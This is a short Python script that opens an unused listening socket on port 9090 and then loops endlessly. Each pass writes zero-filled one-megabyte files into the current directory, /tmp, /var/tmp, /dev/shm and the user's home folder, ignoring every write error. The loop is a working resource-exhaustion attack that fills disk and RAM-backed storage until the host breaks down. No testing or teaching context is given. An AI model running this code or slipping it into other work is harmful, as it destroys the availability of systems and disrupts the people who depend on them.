# Files of a megabyte, without end, wherever they can be written.
import itertools, os, socket
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 9090))
s.listen(5)
for number in itertools.count():
    for folder in (".", "/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            with open(os.path.join(folder, f"filled-{number}"), "wb") as file:
                file.write(bytes(1 << 20))
        except OSError:
            pass
